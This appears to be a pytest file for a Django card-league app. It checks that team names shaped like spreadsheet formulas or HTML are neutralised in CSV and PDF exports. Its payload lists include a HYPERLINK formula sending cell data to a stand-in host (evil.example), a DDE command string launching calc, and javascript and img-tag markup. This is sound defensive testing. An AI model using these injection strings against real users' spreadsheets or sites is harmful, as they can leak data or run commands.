"""Downloads carry no code (issue 16): a team named like a spreadsheet formula goes out as text in the CSVs, and a
team named like HTML markup is printed as written in the PDFs (no 500, no image, no link)."""

from __future__ import annotations

import csv
import io

import pytest
from django.utils import timezone

from clubs.models import Team
from matches.models import StandingsRow
from matches.results.exports import csv_cell

pytestmark = pytest.mark.django_db

FORMULAS = ['=HYPERLINK("http://evil.example/?x="&A1,"click")', "@SUM(1+1)*cmd|' /C calc'!A0", "+1+1", "-2+3",
            "\tTAB", "\rCR"]
MARKUP = ['<a href="javascript:alert(1)">Aces</a>', '<img src="/etc/klawerjas-no-such.jpg"/> Boere', "<b>Manels",
          "Jacks & <font name=nosuch>Co</font>"]


@pytest.mark.parametrize("value", FORMULAS)
def test_csv_cell_neutralises_what_a_spreadsheet_would_run(value):
    assert csv_cell(value) == "'" + value


@pytest.mark.parametrize("value", ["Athlone Aces", "Head-to-head: won 26–18.", "", 0, -4, 2.5, None])
def test_csv_cell_leaves_text_and_numbers_alone(value):
    assert csv_cell(value) == value


def _boem(match) -> None:
    from matches.models import Boem, MatchTable

    table = MatchTable.objects.create(match=match, number=1)
    Boem.objects.create(table=table, number=1, status=Boem.Status.COMPLETED, home_strokes=5, away_strokes=3,
                        winner=match.home, points=2, ended_at=timezone.now())


def _rename(team: Team, name: str) -> None:
    Team.objects.filter(pk=team.pk).update(name=name)


@pytest.mark.parametrize("name", FORMULAS[:2])
def test_standings_and_match_report_csv_neutralise_formula_names(client, world, name):
    league, match = world.a.league, world.a.provisional
    _rename(match.home, name)
    StandingsRow.objects.create(competition=league, team=match.home, position=1, played=1, difference=-4,
                                tiebreak_reason="=1+1", computed_at=timezone.now())
    standings = list(csv.reader(io.StringIO(
        client.get(f"/competitions/{league.pk}/standings.csv").content.decode("utf-8-sig"))))
    assert standings[1][1] == "'" + name and standings[1][-1] == "'=1+1"
    assert standings[1][9] == "-4"  # a negative difference is a number, not text
    _boem(match)
    report = list(csv.reader(io.StringIO(client.get(f"/matches/{match.pk}/report.csv").content.decode("utf-8-sig"))))
    assert report[1][2] == "'" + name  # the home team's cell
    assert all(not cell.startswith(("=", "+", "@", "\t", "\r")) for row in standings + report for cell in row)


@pytest.mark.parametrize("name", MARKUP)
def test_pdfs_print_markup_names_as_text(client, world, name):
    league, match = world.a.league, world.a.provisional
    _rename(match.home, name)
    league.__class__.objects.filter(pk=league.pk).update(name=name)
    StandingsRow.objects.create(competition=league, team=match.home, position=1, played=1, tiebreak_reason=name,
                                computed_at=timezone.now())
    for url in (f"/competitions/{league.pk}/standings.pdf", f"/matches/{match.pk}/report.pdf"):
        response = client.get(url)
        assert response.status_code == 200, url
        assert response.content.startswith(b"%PDF")
        assert b"/URI" not in response.content and b"/Annots" not in response.content  # no link
        assert b"/Subtype /Image" not in response.content  # no file from the server's disk
